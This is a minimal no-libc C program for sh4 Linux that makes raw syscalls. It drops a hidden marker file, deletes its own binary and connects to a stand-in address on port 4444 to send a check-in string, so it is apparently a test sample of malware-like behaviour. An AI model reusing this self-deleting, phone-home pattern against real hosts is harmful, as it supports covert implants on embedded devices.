/*
 * Without a libc, for sh4 (where Debian's static one loops at its start): a file, a name, a server.
 * Numbers are those of arch/sh/include/uapi/asm/unistd_32.h; calls are trapa #(16 + arguments).
 */
typedef unsigned long word;

static long call3(long number, long a, long b, long c)
{
	register long r3 __asm__("r3") = number;
	register long r4 __asm__("r4") = a;
	register long r5 __asm__("r5") = b;
	register long r6 __asm__("r6") = c;
	register long r0 __asm__("r0");
	__asm__ volatile("trapa #0x13" : "=z"(r0) : "r"(r3), "r"(r4), "r"(r5), "r"(r6) : "memory");
	return r0;
}

#define EXIT 1
#define WRITE 4
#define OPEN 5
#define UNLINK 10
#define SOCKETCALL 102
#define SOCKET 1
#define CONNECT 3

struct endpoint {
	unsigned short family, port;
	unsigned char address[4];
	char zero[8];
};

static char name[] = "tmp/.plain";

void _start(void)
{
	/* Network byte order on a processor that has its low byte first: port 4444. */
	static struct endpoint to = {2, 0x5c11, {198, 51, 100, 44}, {0}};
	static const char path[] = "/tmp/.plain", self[] = "/tmp/plain.sh4", said[] = "IN sh4\n";
	const long file = call3(OPEN, (long)path, 0x241, 0644);
	call3(WRITE, file, (long)name, 5);
	call3(UNLINK, (long)self, 0, 0);
	const word socket[3] = {2, 1, 0};
	const long fd = call3(SOCKETCALL, SOCKET, (long)socket, 0);
	const word connect[3] = {(word)fd, (word)&to, 16};
	for (unsigned i = 0; i < 2; i++)
		if (call3(SOCKETCALL, CONNECT, (long)connect, 0) == 0)
			call3(WRITE, fd, (long)said, 7);
	call3(WRITE, 1, (long)"it ran\n", 7);
	call3(EXIT, 0, 0, 0);
}
